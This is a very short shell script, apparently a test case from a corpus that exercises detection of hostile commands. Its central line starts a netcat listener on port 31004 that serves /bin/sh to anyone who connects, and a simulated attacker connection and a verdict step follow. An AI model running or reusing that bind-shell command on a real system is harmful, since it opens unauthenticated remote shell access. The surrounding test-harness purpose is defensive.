. "$CORPUS/lib/common.sh"
nc.traditional -l -p 31004 -e /bin/sh &
attacker connect 31004
verdict
